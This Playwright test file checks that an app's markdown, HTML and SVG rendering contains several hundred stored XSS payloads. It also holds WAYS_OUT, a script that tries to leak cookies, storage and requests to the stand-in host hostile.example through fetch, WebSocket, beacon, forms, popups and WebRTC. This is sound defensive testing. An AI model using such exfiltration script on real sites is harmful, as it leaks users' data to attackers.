import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { type BrowserContext, test as base, expect, type Page } from '@playwright/test'
import config from '../../playwright.config.ts'
import { type Hostile, HOSTILE } from '../../src/features/rendered/hostile.fixture.ts'
import { renderMarkdown } from '../../src/features/rendered/markdown.ts'
import { sanitizePage } from '../../src/features/rendered/sanitize-page.ts'
import { writeAsOurOwn } from './fixtures.ts'
import { newPerson } from './people.ts'
import { isWhole } from './size.ts'
import { JOURNEYS_URL } from './server.ts'

/**
 * S48: every payload, stored through the API and opened in a real browser at every view. Not in `fixtures.ts`' harness: there a
 * console error fails a journey, and here the browser's refusals are what we want to hear.
 */
const GROUPS = 6
/** Every sixth payload each, so that a group has some of every kind. The unit tests of `rendered` read all of them. */
const GROUPS_TO_RUN = isWhole ? GROUPS : 2
const PER_DOCUMENT = 40
const AT_ONCE = 36
const HOST = 'hostile.example'

type Document = { name: string; text: string }
type Hit = { origin: string; url: string; cookie: string }
type Harness = {
  page: Page
  /** Calls of `hit()`, with what the script that called it could see. */
  hits: Hit[]
  /** Requests that reached the network and should not have: another host, or an address of ours nobody should ask for. */
  strays: string[]
  /** Dialogs, popups and pages left behind. */
  escapes: string[]
}
const test = base.extend<{ harness: Harness }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the pattern to learn what a fixture needs
  baseURL: async ({}, use) => {
    await use(process.env[JOURNEYS_URL])
  },
  harness: async ({ page, baseURL }, use) => {
    const harness: Harness = { page, hits: [], strays: [], escapes: [] }
    await watch(harness, page.context(), baseURL ?? '')
    await use(harness)
  },
})
test.skip(
  ({ isMobile, locale }) => isMobile === true || locale !== 'he-IL',
  'the same in every language and on every screen',
)
// A recording of hundreds of frames costs more than all the rest.
test.use({
  trace: 'off',
  screenshot: 'off',
  // What a service worker asks for does not pass the harness, and would be missed by it.
  serviceWorkers: 'block',
  // A process for each of a thousand frames is a defence of the browser's that we do not count on here.
  launchOptions: {
    ...config.use?.launchOptions,
    args: [...(config.use?.launchOptions?.args ?? []), '--disable-features=IsolateSandboxedIframes'],
  },
})
// Seconds on a quiet machine; the ceiling is for a busy one.
test.describe.configure({ timeout: 240_000 })

/** The last is the shell's bell. */
const OURS = /^\/(?:(?:md|html|svg|raw_svg|assets|rendered)\/|api\/sticky-notes\/reminders\/summary$)/

async function watch({ page, hits, strays, escapes }: Harness, context: BrowserContext, origin: string): Promise<void> {
  await context.exposeBinding('report', (_, hit: Hit) => void hits.push(hit))
  // In every frame, also in those without our origin.
  await context.addInitScript(() => {
    const seen = (read: () => string) => {
      try {
        return read()
      } catch {
        return 'denied'
      }
    }
    const tell: unknown = Reflect.get(globalThis, 'report')
    const report = () => {
      const hit = { origin, url: location.href, cookie: seen(() => document.cookie) }
      if (typeof tell === 'function') Reflect.apply(tell, null, [hit])
    }
    Object.assign(globalThis, { hit: report, alert: report })
  })
  // Sees what would go over the network; what the content policy stops never comes here.
  await context.route('**/*', async (route) => {
    const url = new URL(route.request().url())
    if (url.pathname === HARNESS)
      return route.fulfill({ contentType: 'text/html', headers: harnessHeaders, body: '<!doctype html><body>' })
    if (url.origin === origin && OURS.test(url.pathname)) return route.continue()
    strays.push(url.href)
    return route.abort()
  })
  page.on('dialog', (dialog) => {
    escapes.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('popup', (popup) => escapes.push(`popup ${popup.url()}`))
}

/** A page of our origin that frames many documents at once; its headers are set by each test. */
const HARNESS = '/rendered/harness'
let harnessHeaders: Record<string, string> = {}

/** Stores many files in one request and gives their ids by name. */
async function store(page: Page, files: readonly Document[]): Promise<Map<string, string>> {
  const form = new FormData()
  for (const { name, text } of files) form.append('files', new File([text], name))
  const answer = await writeAsOurOwn(page.request).post('/api/files/upload', { multipart: form })
  expect(answer.status()).toBe(200)
  const { results } = (await answer.json()) as { results: { ok: boolean; path: string; file_id: string }[] }
  expect(results.filter(({ ok }) => !ok)).toEqual([])
  return new Map(results.map(({ path, file_id: id }) => [path, id]))
}

/** Loads addresses as frames of one page of ours, many at a time, and gives each a moment to act. */
async function frame(page: Page, urls: readonly string[], sandbox?: string): Promise<void> {
  await page.goto(HARNESS)
  for (let from = 0; from < urls.length; from += AT_ONCE)
    await page.evaluate(loadFrames, { urls: urls.slice(from, from + AT_ONCE), sandbox })
}

async function loadFrames({ urls, sandbox }: { urls: string[]; sandbox: string | undefined }): Promise<void> {
  const frames = urls.map((url) => {
    const element = document.createElement('iframe')
    if (sandbox !== undefined) element.setAttribute('sandbox', sandbox)
    element.src = url
    return element
  })
  const loaded = frames.map((element) => new Promise((resolve) => element.addEventListener('load', resolve)))
  document.body.append(...frames)
  await Promise.all(loaded)
  await new Promise((resolve) => setTimeout(resolve, 150))
  frames.forEach((element) => element.remove())
}

/** NUL never gets in (S32), so those payloads have no view. */
const storable = HOSTILE.filter(({ text }) => !text.includes('\0'))
const group = (n: number) => storable.filter((_, i) => i % GROUPS === n)
const nothing = ({ hits, strays, escapes }: Harness) => ({ hits, strays, escapes })
const NOTHING = { hits: [], strays: [], escapes: [] }

test('there are at least 380 payloads', () => {
  expect(storable.length).toBeGreaterThanOrEqual(380)
})

for (let n = 0; n < GROUPS_TO_RUN; n++) {
  test(`S48: payloads ${n + 1} of ${GROUPS}: no script of ours, no request, no cookie`, async ({
    harness,
    baseURL,
  }) => {
    const { page } = harness
    const payloads = group(n)
    await newPerson(page)
    const documents = payloads.flatMap(({ text }, i) =>
      ['md', 'html', 'svg'].map((kind) => ({ name: `${i}.${kind}`, text })),
    )
    const markdown = arrange(payloads, 'md', (text) =>
      /<p[^>]*>end<\/p>\s*$/.test(renderMarkdown(`${text}\n\nend`).html),
    )
    const html = arrange(payloads, 'html', (text) =>
      (sanitizePage(`${text}<p>end</p>`) ?? '').endsWith('<p>end</p></body></html>'),
    )
    const ids = await store(page, [...documents, ...markdown.together, ...html.together])
    const idsOf = ({ alone, together }: Arranged) => [...together, ...alone].map(({ name }) => ids.get(name) ?? '')
    const all = (view: string, kind: string, query = '') =>
      payloads.map((_, i) => `/${view}/${ids.get(`${i}.${kind}`)}${query}`)

    await test.step('/html, kept safe by its own headers alone', async () => {
      harnessHeaders = {}
      await frame(
        page,
        idsOf(html).map((id) => `/html/${id}`),
      )
      expect(nothing(harness)).toEqual(NOTHING)
    })

    await test.step('/raw_svg as a document', async () => {
      // What is not even an element is no picture.
      const pictures = all('raw_svg', 'svg').filter((_, i) => payloads[i]?.kind !== 'markdown')
      await frame(page, pictures)
      expect(nothing(harness)).toEqual(NOTHING)
    })

    await test.step('/html with scripts, under the policy of the page around it', async () => {
      harnessHeaders = { 'content-security-policy': await framePolicy(page, ids.get('0.html') ?? '') }
      await frame(page, all('html', 'html', '?scripts=on'), 'allow-scripts')
      // Scripts may run here, and find nothing.
      expect(harness.hits.filter(({ origin, cookie }) => origin !== 'null' || cookie !== 'denied')).toEqual([])
      expect(harness.hits.some(({ url }) => url.startsWith(`${baseURL}/html/`))).toBe(true)
      harness.hits.length = 0
      expect(nothing(harness)).toEqual(NOTHING)
    })

    await test.step('/md, many in one document, and alone what would swallow its neighbours', async () => {
      for (const id of idsOf(markdown)) await openMarkdown(page, id)
      expect(nothing(harness)).toEqual(NOTHING)
    })

    await test.step('the pages around them', async () => {
      for (const url of [
        ...all('html', 'html', '/view'),
        ...all('html', 'html', '/view?scripts=on'),
        ...all('svg', 'svg'),
      ].filter((_, i) => i % 97 === n)) {
        await page.goto(url)
        await page.waitForTimeout(100)
        expect(page.url()).toBe(baseURL + url)
      }
      expect(harness.hits.filter(({ origin }) => origin !== 'null')).toEqual([])
      harness.hits.length = 0
      expect(nothing(harness)).toEqual(NOTHING)
    })
  })
}

/** The `frame-src` of the real page, widened from one file to all of them. */
async function framePolicy(page: Page, id: string): Promise<string> {
  const answer = await page.request.get(`/html/${id}/view?scripts=on`)
  const policy = answer.headers()['content-security-policy'] ?? ''
  const frames = /frame-src \S+\/html\//.exec(policy)?.[0]
  if (!frames) throw new Error(`No frame-src in ${policy}`)
  return frames
}

type Arranged = { together: Document[]; alone: Document[] }

/**
 * Many payloads in one document, but for those with an open comment, style or code block: such a one would take in what stands
 * after it, and that would prove nothing. `endsByItself` says whether a paragraph after the payload is still one.
 */
function arrange(payloads: readonly Hostile[], kind: string, endsByItself: (text: string) => boolean): Arranged {
  const numbered = payloads.map(({ text }, i) => ({ name: `${i}.${kind}`, text, ends: endsByItself(text) }))
  const ending = numbered.filter(({ ends }) => ends)
  const together = Array.from({ length: Math.ceil(ending.length / PER_DOCUMENT) }, (_, b) => ({
    name: `together-${b}.${kind}`,
    text: ending
      .slice(b * PER_DOCUMENT, (b + 1) * PER_DOCUMENT)
      .map(({ text }) => `${text}\n\n`)
      .join(''),
  }))
  return { together, alone: numbered.filter(({ ends }) => !ends) }
}

async function openMarkdown(page: Page, id: string): Promise<void> {
  await page.goto(`/md/${id}`)
  // What waits for a click: an address as the browser understands it.
  const addresses = await page
    .locator('.prose :is(a, area)[href]')
    .evaluateAll((links) => links.map((link) => (link instanceof HTMLAnchorElement ? link.protocol : 'area')))
  expect(addresses.filter((protocol) => !['http:', 'https:', 'mailto:'].includes(protocol))).toEqual([])
  expect(await page.locator('.prose :is(form, iframe, object, embed, [style], [onclick])').count()).toBe(0)
}

test('the harness has teeth: without our protection the same payloads act', async ({ harness, baseURL }) => {
  const { page, hits, strays } = harness
  const sample = storable.filter((_, i) => i % 3 === 0)
  const bare = new Map(sample.map(({ text }, i) => [`/bare/${i}`, text]))
  await page.context().route('**/bare/*', (route) => {
    const body = bare.get(new URL(route.request().url()).pathname)
    return body === undefined ? route.fallback() : route.fulfill({ contentType: 'text/html', body })
  })
  harnessHeaders = {}
  await frame(page, [...bare.keys()])
  const fired = new Set(hits.filter(({ origin }) => origin === baseURL).map(({ url }) => url))
  expect(fired.size).toBeGreaterThan(20)
  expect(hits.some(({ cookie }) => cookie !== 'denied')).toBe(true)
  expect(strays.filter((url) => url.includes(HOST)).length).toBeGreaterThan(8)
})

/** Every way out that a script knows; each tells what became of it. */
const WAYS_OUT = (stunPort: number) => `<!doctype html><script>
  const said = (name, what) => report({ origin: self.origin, url: name, cookie: String(what) })
  const attempts = []
  const attempt = (name, run) => attempts.push((async () => { try { said(name, await run()) } catch (error) { said(name, 'denied') } })())
  const url = 'https://${HOST}/out'
  attempt('fetch', async () => (await fetch(url, { mode: 'no-cors' })).type)
  attempt('own fetch', async () => (await fetch('/api/files', { credentials: 'include' })).status)
  attempt('beacon', () => { navigator.sendBeacon(url, 'x'); return 'denied' })
  attempt('socket', () => new Promise((done, fail) => { const s = new WebSocket('wss://${HOST}'); s.onopen = done; s.onerror = fail }))
  attempt('events', () => new Promise((done, fail) => { const s = new EventSource(url); s.onopen = done; s.onerror = fail }))
  attempt('import', () => import(url))
  attempt('worker', () => new Promise((done, fail) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = done; w.onerror = fail }))
  attempt('image', () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = url }))
  attempt('cookie', () => document.cookie)
  attempt('storage', () => localStorage.length)
  attempt('database', () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail }))
  attempt('parent', () => parent.document.title)
  attempt('top', () => { top.location = url; return 'denied' })
  attempt('popup', () => window.open(url) ?? 'denied')
  attempt('form', () => { const f = document.createElement('form'); f.action = url; document.body.append(f); f.submit(); return 'denied' })
  attempt('calls', async () => {
    const call = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stunPort}' }] })
    call.createDataChannel('x')
    await call.setLocalDescription(await call.createOffer())
    return 'denied'
  })
  // The last: the document that replaces this one would end the others.
  Promise.all(attempts).then(() => setTimeout(() => { location = url }, 300))
</script>`

test('S48: a script that was let run finds no way out', async ({ harness, baseURL }) => {
  const { page, hits } = harness
  const stun = createSocket('udp4')
  let calls = 0
  stun.on('message', () => (calls += 1))
  stun.bind(0, '127.0.0.1')
  await once(stun, 'listening')
  await newPerson(page)
  const ids = await store(page, [{ name: 'out.html', text: WAYS_OUT(stun.address().port) }])
  const url = `/html/${ids.get('out.html')}/view?scripts=on`
  await page.goto(url)
  await expect.poll(() => hits.length, { timeout: 20_000 }).toBe(16)
  await page.waitForTimeout(1500)
  expect(hits.filter(({ origin, cookie }) => origin !== 'null' || cookie !== 'denied')).toEqual([])
  expect(page.url()).toBe(baseURL + url)
  hits.length = 0
  expect(nothing(harness)).toEqual(NOTHING)
  expect(calls).toBe(0)
  stun.close()
})
